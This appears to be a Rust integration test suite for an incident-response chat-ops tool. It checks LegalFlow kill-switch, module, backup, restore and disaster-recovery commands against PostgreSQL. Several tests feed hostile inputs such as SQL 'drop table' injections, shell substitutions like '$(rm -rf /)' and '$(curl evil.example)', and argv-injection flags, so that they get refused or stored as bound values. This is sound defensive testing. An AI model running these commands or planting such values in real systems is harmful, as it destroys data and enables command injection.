//! Seed 000 (LegalFlow rollback & DR) end to end: the seed's SQL against real
//! PostgreSQL (the `legalflow` schema of the pack's fixture), a local HTTP app, a
//! stand-in `supabase` and `git`, and real `pg_dump`.

mod common;

use common::{say, Pack};
use serde_json::{json, Value};
use warroom::app::{App, Outcome};
use warroom::chat::PostKind;
use warroom::model::run::{RunState, StepState};

const FIXTURE: &str = "commands/legalflow/fixture.sql";
const ALL: &[(&str, &str)] = &[("legalflow_db", "db"), ("legalflow_app", "web")];
const CORE: &[&str] = &["processos", "clientes", "documentos", "inbox"];

async fn start() -> Pack {
    Pack::start(FIXTURE, ALL).await
}

/// Runs a query returning one value against the pack's database.
async fn scalar<T>(pack: &Pack, sql: &str) -> T
where
    T: for<'r> sqlx::Decode<'r, sqlx::Postgres> + sqlx::Type<sqlx::Postgres> + Send + Unpin,
{
    let pool = pack.pg().await;
    let v: T = sqlx::query_scalar(sql)
        .fetch_one(&pool)
        .await
        .unwrap_or_else(|e| panic!("{sql}: {e}"));
    pool.close().await;
    v
}

async fn flag(pack: &Pack, key: &str) -> bool {
    scalar(
        pack,
        &format!("SELECT enabled FROM legalflow.feature_flags WHERE key = '{key}'"),
    )
    .await
}

/// Payloads of the app events named `event`, oldest first.
async fn events(pack: &Pack, event: &str) -> Vec<Value> {
    let pool = pack.pg().await;
    let v: Vec<Value> =
        sqlx::query_scalar("SELECT payload FROM legalflow.app_events WHERE event = $1 ORDER BY id")
            .bind(event)
            .fetch_all(&pool)
            .await
            .unwrap();
    pool.close().await;
    v
}

async fn table_exists(pack: &Pack, name: &str) -> bool {
    scalar::<Option<String>>(pack, &format!("SELECT to_regclass('{name}')::text"))
        .await
        .is_some()
}

async fn states(app: &App, run: i64) -> Vec<StepState> {
    app.store
        .steps(run)
        .await
        .unwrap()
        .into_iter()
        .map(|s| s.state)
        .collect()
}

async fn output(app: &App, run: i64, idx: usize) -> String {
    app.store.steps(run).await.unwrap()[idx]
        .output
        .clone()
        .unwrap_or_default()
}

// --- 1.1 Kill switch -------------------------------------------------------------

#[tokio::test]
async fn kill_switch_on_locks_down_verifies_and_alerts_the_stakeholders() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    assert!(!flag(&pack, "kill_switch").await);

    let out = say(
        &app,
        "U_ONCALL",
        "/kill-switch on reason=\"Production issue detected\" impact=\"all users read-only\" eta=\"30 min\"",
    )
    .await;

    assert_eq!(out, Outcome::Done, "{}", chat.transcript());
    assert!(flag(&pack, "kill_switch").await);
    assert_eq!(
        events(&pack, "emergency_lockdown").await,
        [json!({"reason": "Production issue detected"})],
        "the function ran with the reason as its argument"
    );
    assert_eq!(
        states(&app, 1).await,
        [StepState::Succeeded, StepState::Succeeded]
    );
    assert_eq!(
        output(&app, 1, 1).await,
        "key = kill_switch, enabled = true"
    );
    let alert = chat
        .posts()
        .into_iter()
        .find(|p| p.post.kind == PostKind::Template && p.post.channel == "C_STATUS")
        .expect("stakeholder alert");
    let text = alert.text();
    assert!(
        text.starts_with("INCIDENT ALERT: P0 - LegalFlow production issue (kill switch)"),
        "{text}"
    );
    assert!(text.contains("- Impact: all users read-only"), "{text}");
    assert!(
        text.contains(
            "- Actions: Activate the kill switch (read-only mode); Verify the kill switch is on"
        ),
        "{text}"
    );
    assert!(text.contains("- ETA: 30 min"), "{text}");
    let run = app.store.run(1).await.unwrap().unwrap();
    let incident = app.store.incident(&run.incident_id).await.unwrap().unwrap();
    assert_eq!(
        (incident.severity.as_str(), incident.status.as_str()),
        ("P0", "mitigating")
    );
}

#[tokio::test]
async fn a_quoted_sql_injection_in_the_reason_is_stored_verbatim_as_a_bound_value() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    let evil = "x'); drop table legalflow.feature_flags; --";

    let out = say(
        &app,
        "U_ONCALL",
        &format!("/kill-switch on reason=\"{evil}\""),
    )
    .await;

    assert_eq!(out, Outcome::Done, "{}", chat.transcript());
    assert!(table_exists(&pack, "legalflow.feature_flags").await);
    assert!(flag(&pack, "kill_switch").await);
    assert_eq!(
        events(&pack, "emergency_lockdown").await,
        [json!({ "reason": evil })]
    );
}

#[tokio::test]
async fn shell_syntax_in_the_reason_is_refused_before_anything_runs() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    for reason in ["$(rm -rf /)", "`id`", "a\nb", "x\" ; drop"] {
        let line = format!("/kill-switch on reason=\"{}\"", reason.replace('"', "\\\""));
        assert_eq!(
            say(&app, "U_ONCALL", &line).await,
            Outcome::Invalid,
            "{line}"
        );
    }
    assert!(
        chat.transcript().contains("`reason`"),
        "{}",
        chat.transcript()
    );
    assert!(!flag(&pack, "kill_switch").await);
    assert!(events(&pack, "emergency_lockdown").await.is_empty());
    assert!(
        app.store.run(1).await.unwrap().is_none(),
        "no run was created"
    );
}

#[tokio::test]
async fn someone_outside_the_p0_roles_cannot_pull_the_kill_switch() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    for user in ["U_COMMS", "U_DBA", "U_STRANGER"] {
        assert_eq!(
            say(
                &app,
                user,
                "/kill-switch on reason=\"Production issue detected\""
            )
            .await,
            Outcome::Denied,
            "{user}: {}",
            chat.transcript()
        );
    }
    assert!(!flag(&pack, "kill_switch").await);
    assert!(events(&pack, "emergency_lockdown").await.is_empty());
}

#[tokio::test]
async fn lifting_the_kill_switch_waits_for_the_leads_approval_and_logs_why() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_ONCALL", "/kill-switch on reason=\"bad deploy\"").await,
        Outcome::Done
    );

    assert_eq!(
        say(&app, "U_ONCALL", "/kill-switch off reason=\"fix deployed\"").await,
        Outcome::Waiting
    );
    assert!(
        flag(&pack, "kill_switch").await,
        "nothing changes before approval"
    );
    assert_eq!(
        say(&app, "U_LEAD", "/approve RUN-2").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    assert!(!flag(&pack, "kill_switch").await);
    let run = app.store.run(2).await.unwrap().unwrap();
    assert_eq!(
        events(&pack, "kill_switch_lifted").await,
        [
            json!({"reason": "fix deployed", "incident_id": run.incident_id, "lifted_by": "U_ONCALL"})
        ]
    );
    assert_eq!(
        states(&app, 2).await,
        [StepState::Succeeded; 3],
        "lift, log, verify"
    );
}

// --- 1.2 / 2.2 Modules --------------------------------------------------------------

#[tokio::test]
async fn disabling_an_optional_module_turns_off_only_its_flag() {
    let pack = start().await;
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/module-disable module=jornadas").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    assert_eq!(
        say(&app, "U_ONCALL", "/module-disable tickets").await,
        Outcome::Done,
        "positional form"
    );

    let off: Vec<String> = {
        let pool = pack.pg().await;
        sqlx::query_scalar("SELECT key FROM legalflow.feature_flags WHERE NOT enabled ORDER BY key")
            .fetch_all(&pool)
            .await
            .unwrap()
    };
    assert_eq!(off, ["jornadas", "kill_switch", "tickets"]);
    assert_eq!(output(&app, 1, 0).await, "1 row affected");
    assert_eq!(output(&app, 1, 2).await, "core_on = 4");
}

#[tokio::test]
async fn core_modules_can_never_be_disabled_the_parser_refuses_them() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    for module in CORE
        .iter()
        .chain(&["kill_switch", "Jornadas", "jornadas'--"])
    {
        assert_eq!(
            say(
                &app,
                "U_ONCALL",
                &format!("/module-disable module=\"{module}\"")
            )
            .await,
            Outcome::Invalid,
            "{module}"
        );
    }
    let text = chat.transcript();
    assert!(
        text.contains(
            "`module` must be one of jornadas, tickets, activities, deals, financeiro, relatorios"
        ),
        "{text}"
    );
    for module in CORE {
        assert!(flag(&pack, module).await, "{module} stays on");
    }
    assert!(
        app.store.run(1).await.unwrap().is_none(),
        "no run was created"
    );
}

#[tokio::test]
async fn the_sql_guard_keeps_core_modules_on_even_if_a_core_name_slips_through_the_choices() {
    let mut pack = start().await;
    // A copy of the pack whose module-disable was edited to accept a core module.
    let dir = tempfile::tempdir().unwrap();
    let repo = common::repo();
    std::fs::copy(
        repo.join("commands/matrix.toml"),
        dir.path().join("matrix.toml"),
    )
    .unwrap();
    let spec = std::fs::read_to_string(repo.join("commands/legalflow/module-disable.toml"))
        .unwrap()
        .replace(
            "choices = [\"jornadas\",",
            "choices = [\"processos\", \"inbox\", \"jornadas\",",
        );
    assert!(spec.contains("\"processos\", \"inbox\", \"jornadas\""));
    std::fs::write(dir.path().join("module-disable.toml"), spec).unwrap();
    pack.env.settings.file.warroom.commands_dir = dir.path().display().to_string();
    let (app, chat) = pack.app().await;

    for (run, module) in [(1, "processos"), (2, "inbox")] {
        assert_eq!(
            say(&app, "U_ONCALL", &format!("/module-disable {module}")).await,
            Outcome::StepFailed,
            "{}",
            chat.transcript()
        );
        assert!(flag(&pack, module).await, "{module} stays on");
        assert_eq!(
            states(&app, run).await,
            [StepState::Failed, StepState::Skipped, StepState::Skipped]
        );
        assert!(
            output(&app, run, 0)
                .await
                .starts_with("row count: expected = 1, got 0"),
            "{}",
            output(&app, run, 0).await
        );
    }
}

#[tokio::test]
async fn re_enabling_a_module_waits_for_the_leads_approval() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    say(&app, "U_ONCALL", "/module-disable financeiro").await;
    assert!(!flag(&pack, "financeiro").await);

    assert_eq!(
        say(&app, "U_ONCALL", "/module-enable module=financeiro").await,
        Outcome::Waiting
    );
    assert!(!flag(&pack, "financeiro").await);
    assert_eq!(
        say(&app, "U_LEAD", "/approve RUN-2").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    assert!(flag(&pack, "financeiro").await);
    assert_eq!(
        say(&app, "U_ONCALL", "/module-enable kill_switch").await,
        Outcome::Invalid,
        "the kill switch is not a module"
    );
}

// --- 2.1, 2.3, 1.3 Read-only checks ----------------------------------------------------

#[tokio::test]
async fn scope_check_posts_recent_errors_slow_endpoints_and_serious_security_events() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    let before: i64 = scalar(&pack, "SELECT count(*) FROM legalflow.app_events").await;

    assert_eq!(
        say(&app, "U_SEC", "/scope-check").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    let tables: Vec<String> = chat
        .posts()
        .into_iter()
        .filter(|p| p.post.kind == PostKind::Info)
        .map(|p| p.text().to_string())
        .collect();
    assert_eq!(tables.len(), 3, "{tables:#?}");
    assert!(tables[0].starts_with("**Recent errors (last hour)**"));
    assert!(tables[0].contains("api_error"), "{}", tables[0]);
    assert!(!tables[0].contains("sync_error"), "older than an hour");
    assert!(
        tables[1].contains("endpoint          | requests | p95_response_ms"),
        "{}",
        tables[1]
    );
    assert!(tables[1].contains("/api/v1/processos | 20       | 2519"));
    assert!(!tables[1].contains("/api/v1/clientes"), "fast endpoint");
    assert!(tables[2].contains("brute_force_login"), "{}", tables[2]);
    assert!(!tables[2].contains("rate_limit_exceeded"), "low severity");
    assert!(
        !tables[2].contains("privilege_escalation_attempt"),
        "older than an hour"
    );
    let after: i64 = scalar(&pack, "SELECT count(*) FROM legalflow.app_events").await;
    assert_eq!(before, after, "read-only");
}

#[tokio::test]
async fn integrity_check_posts_the_counts_and_the_foreign_keys() {
    let pack = start().await;
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_DBA", "/integrity-check").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    let text = chat.transcript();
    assert!(text.contains("total_clientes\n--------------\n3"), "{text}");
    assert!(
        text.contains("total_processos\n---------------\n4"),
        "{text}"
    );
    assert!(
        text.contains("active_journeys\n---------------\n2"),
        "{text}"
    );
    for fk in [
        "journey_instances_processo_id_fkey | legalflow.journey_instances | legalflow.processos",
        "processos_cliente_id_fkey          | legalflow.processos         | legalflow.clientes",
        "tickets_cliente_id_fkey            | legalflow.tickets           | legalflow.clientes",
    ] {
        assert!(text.contains(fk), "{fk}\n{text}");
    }
    assert!(
        text.contains("clientes   | 3\nprocessos  | 4\ntickets    | 2"),
        "{text}"
    );
}

#[tokio::test]
async fn migration_history_lists_the_latest_migrations_first() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_ONCALL", "/migration-history").await,
        Outcome::Done
    );
    let text = chat.transcript();
    let newer = text.find("20240915_add_deals").expect("newer migration");
    let older = text.find("20240901_add_jornadas").expect("older migration");
    assert!(newer < older, "{text}");
    assert!(!text.contains("user_login"), "{text}");
}

// --- DR 1.1, 1.2, 1.3 Backups --------------------------------------------------------

#[tokio::test]
async fn snapshot_creates_a_dated_supabase_snapshot_and_logs_it() {
    let pack = start().await;
    pack.standins.add("supabase", "Snapshot created", 0);
    let (app, chat) = pack.app().await;
    let before = chrono::Utc::now().format("%Y%m%d").to_string();

    assert_eq!(
        say(&app, "U_ONCALL", "/snapshot").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    let calls = pack.standins.calls_of("supabase");
    assert_eq!(calls.len(), 1, "{calls:?}");
    assert_eq!(calls[0][..4], ["db", "snapshot", "create", "--name"]);
    let name = &calls[0][4];
    let re = regex::Regex::new(r"^pre_deployment_\d{8}_\d{4}$").unwrap();
    assert!(re.is_match(name), "{name}");
    let after = chrono::Utc::now().format("%Y%m%d").to_string();
    assert!(
        name[15..23] == before || name[15..23] == after,
        "{name} is dated today (UTC)"
    );
    let (status, by): (String, String) = {
        let pool = pack.pg().await;
        sqlx::query_as(
            "SELECT status, created_by FROM legalflow.backup_logs WHERE backup_type = 'pre_deploy'",
        )
        .fetch_one(&pool)
        .await
        .unwrap()
    };
    assert_eq!(status, "completed");
    assert_eq!(
        by,
        scalar::<String>(&pack, "SELECT current_user::text").await
    );
    assert_eq!(
        output(&app, 1, 0).await,
        "`supabase` exited 0: Snapshot created"
    );
}

#[tokio::test]
async fn a_failed_snapshot_is_not_logged_as_completed() {
    let pack = start().await;
    pack.standins.add("supabase", "quota exceeded", 1);
    let (app, _chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/snapshot").await,
        Outcome::StepFailed
    );

    let n: i64 = scalar(
        &pack,
        "SELECT count(*) FROM legalflow.backup_logs WHERE backup_type = 'pre_deploy'",
    )
    .await;
    assert_eq!(n, 0);
    assert_eq!(
        states(&app, 1).await,
        [StepState::Failed, StepState::Skipped]
    );
    assert!(output(&app, 1, 0).await.contains("quota exceeded"));
}

#[tokio::test]
async fn backup_log_records_validated_values_as_bound_parameters() {
    let pack = start().await;
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(
            &app,
            "U_DBA",
            "/backup-log path=/backups/daily_backup_20240102.sql size=1024000 duration=300"
        )
        .await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    let row: (String, String, String, i64, i32) = {
        let pool = pack.pg().await;
        sqlx::query_as("SELECT backup_type, status, file_path, file_size_bytes, duration_seconds FROM legalflow.backup_logs ORDER BY id DESC LIMIT 1")
            .fetch_one(&pool)
            .await
            .unwrap()
    };
    assert_eq!(
        row,
        (
            "scheduled".into(),
            "completed".into(),
            "/backups/daily_backup_20240102.sql".into(),
            1_024_000,
            300
        )
    );

    for bad in [
        "path=\"/backups/x'; drop table legalflow.backup_logs;--\" size=1 duration=1",
        "path=backups/relative.sql size=1 duration=1",
        "path=/backups/x.sql size=-1 duration=1",
        "path=/backups/x.sql size=1 duration=5m",
        "path=/backups/x.sql size=1 duration=1 type=hourly",
    ] {
        assert_eq!(
            say(&app, "U_DBA", &format!("/backup-log {bad}")).await,
            Outcome::Invalid,
            "{bad}"
        );
    }
    assert!(table_exists(&pack, "legalflow.backup_logs").await);
    let n: i64 = scalar(&pack, "SELECT count(*) FROM legalflow.backup_logs").await;
    assert_eq!(n, 2, "the fixture's row and the one logged");
}

#[tokio::test]
async fn weekly_backup_dumps_the_database_archives_the_code_and_logs_it() {
    let mut pack = start().await;
    let backups = tempfile::tempdir().unwrap();
    let code = tempfile::tempdir().unwrap();
    pack.var("backup_dir", &backups.path().display().to_string());
    pack.var("legalflow_repo", &code.path().display().to_string());
    pack.standins.add("git", "", 0);
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/weekly-backup").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    let date = chrono::Utc::now().format("%Y%m%d").to_string();
    let dump = backups.path().join(format!("db_backup_{date}.sql"));
    let sql = std::fs::read_to_string(&dump).expect("pg_dump wrote the dump");
    assert!(sql.contains("CREATE TABLE legalflow.clientes"), "real dump");
    assert!(sql.contains("Silva Advogados"), "with data");
    assert_eq!(
        pack.standins.calls_of("git"),
        [vec![
            "archive".to_string(),
            "--format=tar.gz".into(),
            "-o".into(),
            format!("{}/app_backup_{date}.tar.gz", backups.path().display()),
            "HEAD".into(),
        ]]
    );
    let n: i64 = scalar(
        &pack,
        "SELECT count(*) FROM legalflow.backup_logs WHERE backup_type = 'weekly' AND status = 'completed'",
    )
    .await;
    assert_eq!(n, 1);
}

// --- 3.1 Restore ---------------------------------------------------------------------

#[tokio::test]
async fn restore_needs_the_lead_and_a_dba_then_a_checkpoint_before_it_restores() {
    let pack = start().await;
    pack.standins.add("supabase", "ok", 0);
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(
            &app,
            "U_ONCALL",
            "/restore snapshot=pre_deployment_20240101_1200"
        )
        .await,
        Outcome::Waiting
    );
    assert_eq!(
        say(&app, "U_LEAD", "/approve RUN-1").await,
        Outcome::Waiting
    );
    assert!(pack.standins.calls_of("supabase").is_empty());
    assert_eq!(
        say(&app, "U_DBA", "/approve RUN-1").await,
        Outcome::Waiting,
        "parked at the checkpoint: {}",
        chat.transcript()
    );
    assert_eq!(
        pack.standins.calls_of("supabase"),
        [["db", "list-snapshots"]],
        "only the listing ran before the checkpoint"
    );
    assert_eq!(
        states(&app, 1).await,
        [
            StepState::Succeeded,
            StepState::Waiting,
            StepState::Pending,
            StepState::Pending
        ]
    );
    assert!(chat.transcript().contains("checkpoint 2: The snapshot id"));

    assert_eq!(
        say(&app, "U_DBA", "/confirm RUN-1").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    assert_eq!(
        pack.standins.calls_of("supabase"),
        [
            vec!["db", "list-snapshots"],
            vec![
                "db",
                "restore",
                "--snapshot-id",
                "pre_deployment_20240101_1200"
            ]
        ]
    );
    assert_eq!(states(&app, 1).await, [StepState::Succeeded; 4]);
    assert_eq!(output(&app, 1, 3).await, "count = 3");
    assert!(chat
        .transcript()
        .contains("**Verify restore** — RUN-1\n```\ncount\n-----\n3\n```"));
}

#[tokio::test]
async fn restore_refuses_snapshot_ids_that_could_inject_into_argv() {
    let pack = start().await;
    pack.standins.add("supabase", "ok", 0);
    let (app, _chat) = pack.app().await;
    for bad in [
        "x; rm -rf /",
        "$(id)",
        "--debug",
        "-x",
        "a b",
        "snap'; drop table legalflow.clientes;--",
        "../etc",
        "",
    ] {
        assert_eq!(
            say(&app, "U_ONCALL", &format!("/restore snapshot=\"{bad}\"")).await,
            Outcome::Invalid,
            "{bad:?}"
        );
    }
    assert!(pack.standins.calls_of("supabase").is_empty());
    assert!(app.store.run(1).await.unwrap().is_none());
    assert!(table_exists(&pack, "legalflow.clientes").await);
}

#[tokio::test]
async fn restore_is_denied_to_someone_outside_the_data_corruption_roles() {
    let pack = start().await;
    pack.standins.add("supabase", "ok", 0);
    let (app, _chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_SEC", "/restore pre_deployment_20240101_1200").await,
        Outcome::Denied
    );
    assert!(pack.standins.calls_of("supabase").is_empty());
}

#[tokio::test]
async fn a_restore_that_leaves_no_clientes_fails_its_verification() {
    let pack = start().await;
    pack.standins.add("supabase", "ok", 0);
    let pool = pack.pg().await;
    sqlx::raw_sql("TRUNCATE legalflow.clientes CASCADE")
        .execute(&pool)
        .await
        .unwrap();
    let (app, _chat) = pack.app().await;
    say(&app, "U_LEAD", "/restore pre_deployment_20240101_1200").await;
    say(&app, "U_DBA", "/approve RUN-1").await;
    assert_eq!(
        say(&app, "U_LEAD", "/confirm RUN-1").await,
        Outcome::StepFailed
    );
    assert!(output(&app, 1, 3)
        .await
        .starts_with("`count`: expected > 0, got 0"));
    assert_eq!(
        app.store.run(1).await.unwrap().unwrap().state,
        RunState::Failed
    );
}

#[tokio::test]
async fn frontend_rollback_reverts_the_commit_rebuilds_and_waits_for_the_deploy() {
    let mut pack = start().await;
    let repo = tempfile::tempdir().unwrap();
    pack.var("legalflow_repo", &repo.path().display().to_string());
    pack.standins.add("git", "abc1234 bad deploy", 0);
    pack.standins.add("npm", "built", 0);
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/frontend-rollback commit=abc1234").await,
        Outcome::Waiting
    );
    assert!(pack.standins.calls().is_empty(), "nothing before approval");
    assert_eq!(
        say(&app, "U_LEAD", "/approve RUN-1").await,
        Outcome::Waiting,
        "parked at the deploy checkpoint: {}",
        chat.transcript()
    );
    assert_eq!(
        pack.standins.calls(),
        [
            vec!["git", "log", "--oneline", "-10"],
            vec!["git", "revert", "--no-edit", "abc1234"],
            vec!["npm", "run", "build"]
        ]
    );
    assert_eq!(say(&app, "U_LEAD", "/confirm RUN-1").await, Outcome::Done);
    for bad in ["HEAD~1", "abc1234; rm -rf /", "--hard", "$(id)"] {
        assert_eq!(
            say(&app, "U_ONCALL", &format!("/frontend-rollback \"{bad}\"")).await,
            Outcome::Invalid,
            "{bad}"
        );
    }
}

#[tokio::test]
async fn corruption_scope_lists_matching_columns_with_a_bound_fragment() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_DBA", "/corruption-scope cliente_id").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    let text = chat.transcript();
    assert!(
        text.contains("processos  | cliente_id  | integer"),
        "{text}"
    );
    assert!(
        text.contains("tickets    | cliente_id  | integer"),
        "{text}"
    );
    assert!(!text.contains("journey_instances"), "{text}");
    assert_eq!(
        say(&app, "U_DBA", "/corruption-scope \"x' or 1=1 --\"").await,
        Outcome::Invalid
    );
}

#[tokio::test]
async fn reindex_needs_the_lead_and_a_dba_then_rebuilds_the_schemas_indexes() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    assert_eq!(say(&app, "U_DBA", "/reindex").await, Outcome::Waiting);
    assert_eq!(
        say(&app, "U_LEAD", "/approve RUN-1").await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );
    assert_eq!(states(&app, 1).await, [StepState::Succeeded; 2]);
    assert!(chat
        .transcript()
        .contains("total_clientes\n--------------\n3"));
}

// --- 3.3 Verification, post-incident ----------------------------------------------------

#[tokio::test]
async fn app_verify_checks_health_the_sla_metric_a_manual_login_and_the_database() {
    let pack = start().await;
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/app-verify").await,
        Outcome::Waiting,
        "{}",
        chat.transcript()
    );
    assert_eq!(
        pack.web.paths(),
        ["GET /health", "GET /api/v1/agent/tools/metrics/sla_tickets"]
    );
    assert!(chat.transcript().contains("Log in as the test user"));
    assert_eq!(say(&app, "U_ONCALL", "/confirm RUN-1").await, Outcome::Done);

    assert_eq!(states(&app, 1).await, [StepState::Succeeded; 4]);
    let db = output(&app, 1, 3).await;
    assert!(
        db.starts_with("current_database = warroom_t_") && db.contains("current_user = "),
        "{db}"
    );
}

#[tokio::test]
async fn a_failing_health_check_fails_app_verify() {
    let pack = start().await;
    pack.web
        .set("GET", "/health", 503, json!({"status": "down"}));
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(&app, "U_ONCALL", "/app-verify").await,
        Outcome::StepFailed
    );

    assert_eq!(pack.web.paths(), ["GET /health"], "nothing after it ran");
    assert_eq!(
        states(&app, 1).await,
        [
            StepState::Failed,
            StepState::Skipped,
            StepState::Skipped,
            StepState::Skipped
        ]
    );
    assert!(output(&app, 1, 0)
        .await
        .starts_with("HTTP 503, expected 200"));
    assert!(chat.transcript().contains("RUNBOOK FAILED: /app-verify"));
}

#[tokio::test]
async fn post_incident_check_runs_the_qa_checks_and_reads_the_status() {
    let pack = start().await;
    let (app, _chat) = pack.app().await;
    assert_eq!(
        say(&app, "U_IC", "/post-incident-check").await,
        Outcome::Done
    );
    assert_eq!(pack.web.paths(), ["GET /qa", "GET /status"]);

    pack.web.set("GET", "/status", 500, json!({"db": "down"}));
    assert_eq!(
        say(&app, "U_IC", "/post-incident-check").await,
        Outcome::StepFailed
    );
}

// --- DR 3.2, Emergency Response 3 -------------------------------------------------------

#[tokio::test]
async fn dr_test_record_inserts_the_event_with_typed_values() {
    let pack = start().await;
    let (app, chat) = pack.app().await;

    assert_eq!(
        say(
            &app,
            "U_ONCALL",
            "/dr-test-record rto=85 rpo=12 passed=true"
        )
        .await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    let recorded = events(&pack, "dr_test_completed").await;
    assert_eq!(recorded.len(), 1);
    let p = &recorded[0];
    assert_eq!(p["rto_minutes"], json!(85), "a JSON number, not a string");
    assert_eq!(p["rpo_hours"], json!(12));
    assert_eq!(p["test_passed"], json!(true), "a JSON boolean");
    assert!(p["timestamp"].is_string(), "{p}");
    assert_eq!(
        output(&app, 1, 1).await,
        "rto_met = true, rpo_met = true, test_passed = true"
    );
}

#[tokio::test]
async fn a_dr_test_over_the_rto_is_recorded_and_then_fails_the_objective_check() {
    let pack = start().await;
    let (app, _chat) = pack.app().await;

    assert_eq!(
        say(
            &app,
            "U_ONCALL",
            "/dr-test-record rto=150 rpo=12 passed=false"
        )
        .await,
        Outcome::StepFailed
    );

    let recorded = events(&pack, "dr_test_completed").await;
    assert_eq!(
        (&recorded[0]["rto_minutes"], &recorded[0]["test_passed"]),
        (&json!(150), &json!(false))
    );
    assert!(
        output(&app, 1, 1)
            .await
            .contains("`rto_met`: expected true, got false"),
        "{}",
        output(&app, 1, 1).await
    );
    for bad in [
        "rto=85; rpo=12 passed=true",
        "rto=\"85); drop table legalflow.app_events;--\" rpo=12 passed=true",
        "rto=85 rpo=12 passed=maybe",
        "rto=-5 rpo=12 passed=true",
    ] {
        assert_eq!(
            say(&app, "U_ONCALL", &format!("/dr-test-record {bad}")).await,
            Outcome::Invalid,
            "{bad}"
        );
    }
    assert_eq!(events(&pack, "dr_test_completed").await.len(), 1);
}

#[tokio::test]
async fn incident_resolution_log_stores_the_incident_id_and_the_actions_verbatim() {
    let pack = start().await;
    let (app, chat) = pack.app().await;
    say(&app, "U_ONCALL", "/kill-switch on reason=\"bad deploy\"").await;
    let actions = "kill switch on; restored pre_deployment_20240101_1200; x'); drop table legalflow.app_events;--";

    assert_eq!(
        say(
            &app,
            "U_ONCALL",
            &format!("/incident-resolution-log actions=\"{actions}\"")
        )
        .await,
        Outcome::Done,
        "{}",
        chat.transcript()
    );

    assert!(table_exists(&pack, "legalflow.app_events").await);
    let first = app.store.run(1).await.unwrap().unwrap();
    let run = app.store.run(2).await.unwrap().unwrap();
    assert_eq!(
        run.incident_id, first.incident_id,
        "the channel's open incident"
    );
    let logged = events(&pack, "incident_resolution").await;
    assert_eq!(logged.len(), 1);
    assert_eq!(logged[0]["incident_id"], json!(run.incident_id));
    assert_eq!(logged[0]["actions_taken"], json!(actions));
    assert!(logged[0]["resolution_time"].is_string());
    let incident = app.store.incident(&run.incident_id).await.unwrap().unwrap();
    assert_eq!(incident.status, "resolved");
    assert_eq!(
        say(
            &app,
            "U_ONCALL",
            "/incident-resolution-log actions=\"$(curl evil.example)\""
        )
        .await,
        Outcome::Invalid
    );
}
